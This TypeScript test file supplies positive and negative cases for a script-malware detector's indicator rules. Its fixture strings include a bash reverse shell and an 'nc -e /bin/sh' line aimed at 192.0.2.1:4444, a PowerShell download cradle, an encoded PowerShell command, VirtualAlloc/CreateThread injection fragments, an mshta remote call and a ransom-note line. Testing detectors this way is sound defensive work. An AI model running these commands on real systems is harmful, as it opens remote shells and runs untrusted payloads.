import type { DecodedBlob, ScriptFacts, ScriptSignName } from "@fumehood/inspect";
import { type FactsInput, htmlOf, scriptOf } from "../facts.ts";
import { SCRIPT_SIGN_INDICATORS } from "../../indicators/script-signs.ts";
import type { IndicatorCase } from "./case.ts";

type Signs = Parameters<typeof scriptOf>[1];

function script(
  language: ScriptFacts["language"],
  signs: Signs = [],
  overrides: Partial<ScriptFacts> = {},
): FactsInput {
  return { type: "text", script: scriptOf(language, signs, overrides) };
}

function obfuscation(overrides: Partial<ScriptFacts["obfuscation"]>): Partial<ScriptFacts> {
  return { obfuscation: { ...scriptOf("other").obfuscation, ...overrides } };
}

function decoded(overrides: Partial<DecodedBlob>): Partial<ScriptFacts> {
  const blob: DecodedBlob = {
    encoding: "base64",
    offset: 10,
    encodedLength: 800,
    decodedLength: 600,
    layer: 0,
    preview: "",
  };
  return { decoded: [{ ...blob, ...overrides }] };
}

/** Each of the plain signs: the sign itself, and another one in its place. */
const SIGN_CASES: readonly IndicatorCase[] = SCRIPT_SIGN_INDICATORS.map(({ name }): IndicatorCase => {
  // The table names each rule after its sign.
  const sign = name.slice("script-".length) as ScriptSignName;
  return [name, script("python", [sign]), script("python", [sign === "delay" ? "wmi" : "delay"])];
});

export const SCRIPT_CASES: readonly IndicatorCase[] = [
  ...SIGN_CASES,
  [
    "script-downloads-and-runs",
    { type: "html", html: htmlOf({ script: scriptOf("javascript", ["download", "dynamic-code"]) }) },
    script("shell", ["download"]),
  ],
  [
    "script-windows-downloader",
    script("vbscript", ["download", "execution"]),
    script("javascript", ["download", "execution"]),
  ],
  [
    "script-encoded-downloader",
    script("powershell", [["download", 1], "execution"]),
    script("powershell", [["download", 0], "execution"]),
  ],
  [
    "script-obfuscated",
    script("javascript", [], obfuscation({ score: 80 })),
    script("javascript", [], obfuscation({ score: 50 })),
  ],
  [
    "script-carets-or-backticks",
    script("batch", [], obfuscation({ caretOrBacktickCount: 30 })),
    script("shell", [], obfuscation({ caretOrBacktickCount: 30 })),
  ],
  [
    "script-character-codes",
    script("vbscript", [], decoded({ encoding: "char-codes", decodedLength: 80, preview: "CreateObject" })),
    script("vbscript", [], decoded({ encoding: "char-codes", decodedLength: 80 })),
  ],
  [
    "script-nested-encoding",
    script("powershell", [["execution", 2]], { decodedScripts: ["iex $a", "calc"] }),
    script("powershell", [["execution", 1]], { decodedScripts: ["calc"] }),
  ],
  [
    "script-holds-program",
    script("python", [], decoded({ contentType: "pe-exe" })),
    script("python", [], decoded({ contentType: "lnk", decodedLength: 20 })),
  ],
  ["script-encoded-file", { type: "vbe" }, { type: "vbs" }],
  ["hta-application", { type: "hta" }, { type: "html" }],
  [
    "script-ip-literal-url",
    script("shell", [], { urls: ["http://198.51.100.4/x"] }),
    script("shell", [], { urls: ["http://127.0.0.1/x", "http://[::1]/", "http://example.com/198.51.100.4"] }),
  ],
  [
    "script-program-url",
    script("batch", [], { urls: ["http://example.test/get/setup.exe?v=1"] }),
    script("batch", [], { urls: ["http://example.test/lib/app.js", "https://example.com"] }),
  ],
  [
    "script-messenger-bot",
    script("python", [], { urls: ["https://api.telegram.org/bot123/sendMessage"] }),
    script("python", [], { urls: ["https://core.telegram.org/bots"] }),
  ],
  [
    "script-reverse-shell",
    script("shell", [["reverse-shell", 0, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]]),
    script("shell", [["reverse-shell", 0, "(echo > /dev/tcp/localhost/80) >/dev/null 2>&1"]]),
  ],
  [
    "script-remote-shell-parts",
    script("shell", [["reverse-shell", 0, "(echo > /dev/tcp/localhost/80) >/dev/null 2>&1"]]),
    script("shell", [["reverse-shell", 0, "nc -e /bin/sh 192.0.2.1 4444"]]),
  ],
  [
    "script-ransom-note",
    script("powershell", [["ransom-note", 0, "Your files have been encrypted. Send 1 BTC"]]),
    script("powershell", [["ransom-note", 0, "# the decryption key is derived from the password"]]),
  ],
  [
    "script-code-injection",
    script("powershell", [
      ["code-injection", 0, "$p = [W]::VirtualAlloc(0, $n, 0x3000, 0x40)"],
      ["code-injection", 0, "[W]::CreateThread(0, 0, $p, 0, 0, 0)"],
    ]),
    script("perl", [
      ["code-injection", 0, "by C<CreateThread> on Windows"],
      ["code-injection", 0, "CreateThread()"],
    ]),
  ],
  [
    "script-encoded-command",
    script("batch", [["encoded-command", 0, "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"]]),
    script("powershell", [["encoded-command", 0, "[Convert]::FromBase64String($text)"]]),
  ],
  [
    "script-base64-decoding",
    script("powershell", [["encoded-command", 0, "[Convert]::FromBase64String($text)"]]),
    script("batch", [["encoded-command", 0, "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"]]),
  ],
  [
    "script-download-cradle",
    script("powershell", [["download", 0, "IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')"]]),
    script("powershell", [["download", 0, "$page = Invoke-WebRequest http://example.test/a"]]),
  ],
  [
    "script-remote-lolbin",
    script("batch", [["lolbin", 0, "mshta http://example.test/a.hta"]]),
    script("batch", [["lolbin", 0, "rundll32 shell32.dll,Control_RunDLL"]]),
  ],
  [
    "script-host-dropper",
    script("javascript", [
      ["download", 0, 'new ActiveXObject("MSXML2.XMLHTTP")'],
      ["file-drop", 0, 'new ActiveXObject("ADODB.Stream")'],
      ["execution", 0, 'new ActiveXObject("WScript.Shell")'],
    ]),
    script("javascript", [["download", 0, 'new ActiveXObject("MSXML2.XMLHTTP")'], "execution"]),
  ],
];
